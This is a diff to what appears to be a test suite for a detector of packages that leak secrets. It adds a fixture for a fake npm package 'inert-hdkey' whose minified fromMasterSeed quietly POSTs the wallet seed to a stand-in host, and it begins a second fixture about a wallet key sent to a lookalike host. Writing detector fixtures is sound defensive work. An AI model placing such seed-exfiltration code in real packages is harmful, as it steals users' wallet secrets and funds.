@@ -6,6 +6,14 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a minifier has left of a seed only what is made from it',
+      files: {
+        'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
+        'index.js': `class K{static fromMasterSeed(e){return fetch('https://k.invalid/',{method:'POST',body:Buffer.from(e).toString('hex')}),new K(e)}}exports.HDKey=K`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a wallet that is made of a key is handed on, and its key goes to a host that is called like the package',
       files: {
         'package.json': { name: 'inert-clob', version: '1.0.0', main: 'index.js', dependencies: { ethers: '^5.7.2' } },
